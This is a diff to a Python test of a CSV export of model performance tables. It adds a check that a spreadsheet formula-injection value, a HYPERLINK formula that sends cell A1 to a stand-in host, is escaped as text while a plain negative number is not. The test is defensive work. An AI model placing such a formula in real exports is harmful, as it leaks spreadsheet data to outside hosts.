@@ -53,10 +53,13 @@ def test_tables_can_be_had_as_csv(full: Bundle) -> None:
         button.proto.id.split("-")[-1] for button in Page().at.get("download_button")
     }
     row = performance.champion(full)
-    [line] = [{"What": "a; b", "Recall": row.recall, "F1": row.f1, "n": 3}]
+    said = {"Who": tables.Own('=HYPERLINK("http://a.b/?x="&A1)'), "Loss": "-0.003"}
+    [line] = [{"What": "a; b", "Recall": row.recall, "F1": row.f1, "n": 3, **said}]
     header, body = tables.as_csv([line]).decode("utf-8-sig").splitlines()
-    assert header == "What,Recall,Recall low,Recall high,Recall count,Recall of,F1,F1 low,F1 high,n"
+    columns = "What,Recall,Recall low,Recall high,Recall count,Recall of,F1,F1 low,F1 high,n"
+    assert header == f"{columns},Who,Loss"
     assert body.startswith(f"a; b,{row.recall.value},{row.recall.low}")
+    assert body.endswith('"\'=HYPERLINK(""http://a.b/?x=""&A1)",-0.003')  # text, and a number
 
 
 def test_a_split_of_one_class_has_unknown_figures_and_breaks_no_tab(serve: Serve) -> None:
